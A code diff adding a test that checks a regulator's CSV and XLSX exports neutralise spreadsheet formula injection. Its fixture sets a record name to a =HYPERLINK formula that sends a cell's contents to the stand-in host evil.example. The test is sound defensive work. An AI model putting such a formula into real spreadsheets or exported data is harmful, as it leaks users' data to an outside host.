@@ -152,6 +152,24 @@ def test_exports_carry_the_stored_numbers(app, client, db, plant, regulator):
     assert rows[4][0] == "2022-06" and abs(rows[4][8] - float(total)) < 1e-6
 
 
+def test_the_regulators_export_never_writes_an_enterprises_text_as_a_formula(app, client, db, plant, regulator):
+    """Issue 16 #2: a source named =HYPERLINK(...) is text in the CSV and the XLSX, whoever downloads them."""
+    _file_example_7(app, db, plant, approve_by=regulator)
+    plant["sources"]["diesel"].name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    plant["org"].name = "@锦湾示范化工"
+    db.session.commit()
+    login(client, regulator)
+    rows = list(csv.reader(io.StringIO(client.get(f"/footprint/export/{plant['org'].id}/2022.csv")
+                                       .get_data(as_text=True).lstrip("\ufeff"))))
+    texts = [v for row in rows for v in row]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in texts and "'@锦湾示范化工" in texts
+    assert not [v for v in texts if v.startswith(("=", "@", "\t", "\r"))]
+    book = load_workbook(io.BytesIO(client.get(f"/footprint/export/{plant['org'].id}/2022.xlsx").data))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]
+
+
 def test_recalculate_page_compares_old_and_new(app, client, db, plant, authority, make_user):
     filing_id = _file_example_7(app, db, plant)
     calc_id = db.session.scalar(select(Calculation.id).where(Calculation.filing_id == filing_id))
